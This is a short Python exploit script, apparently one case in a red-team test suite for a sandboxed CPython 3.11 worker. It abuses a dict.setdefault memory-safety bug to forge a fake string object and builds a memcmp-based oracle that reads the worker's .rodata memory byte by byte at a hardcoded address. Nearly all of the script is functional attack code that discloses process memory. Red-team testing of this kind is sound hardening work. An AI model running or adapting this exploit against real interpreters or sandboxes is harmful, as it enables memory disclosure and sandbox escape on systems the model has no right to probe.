# technique: same CPython 3.11 dict.setdefault bug as 01 (a non-str key stored in the str-only table that re-grows after its __eq__ cleared the dict); the forged int key's data pointer aims at chosen memory and `s in d` memcmp()s it against s: an oracle that reads the worker's memory byte by byte (here 16 bytes of .rodata past a 120-byte known prefix) (red-team pass 79; the worker's _Py_dict_lookup refuses a lookup that turned a general table str-only)
# expect: any
M32 = (1 << 32) - 1
ADDR = 0xa8d429                               # .rodata of the non-PIE worker
KNOWN = (b'Fatal Python error: \x00<message not set>\x00Python runtime state: \x00finalizing (tstate=0x'
         b'\x00core initialized\x00preinitialized\x00prei')   # 120 bytes at ADDR (from the binary)

def fits(v):
    return (v & M32) < (1 << 30) and (v >> 32) < (1 << 30)

def fake_str_int(h64, L, ptr):
    d = [1] * L
    d[0], d[1] = h64 & M32, h64 >> 32
    d[2] = 4 | 0x80                          # kind 1, not compact: data pointer at +72
    d[12], d[13] = ptr & M32, ptr >> 32
    return sum(x << (30 * i) for i, x in enumerate(d))

def equals_at(ptr, s):
    h = hash(s)
    class K(int):
        def __hash__(self):
            return h
    class A:
        def __hash__(self):
            return h
        def __eq__(self, other):
            d.clear()
            return False
    d = {A(): 1}
    d.setdefault(K(fake_str_int(h & ((1 << 64) - 1), len(s), ptr)), 0)
    return s in d

def usable(s):
    return fits(hash(s) & ((1 << 64) - 1))

def next_byte(end, known):
    # memory [end - len(known), end) == known; find the byte at end
    for g in range(256):
        for L in range(15, len(known) + 2):
            s = (known[len(known) - (L - 1):] + bytes([g])).decode("latin-1")
            if usable(s):
                if equals_at(end - (L - 1), s):
                    return g
                break
    raise RuntimeError("oracle dead")

known = KNOWN
for i in range(16):
    known += bytes([next_byte(ADDR + len(known), known)])
raise RuntimeError("read 16 bytes at %#x via the dict oracle: %r" % (ADDR + 120, known[120:]))
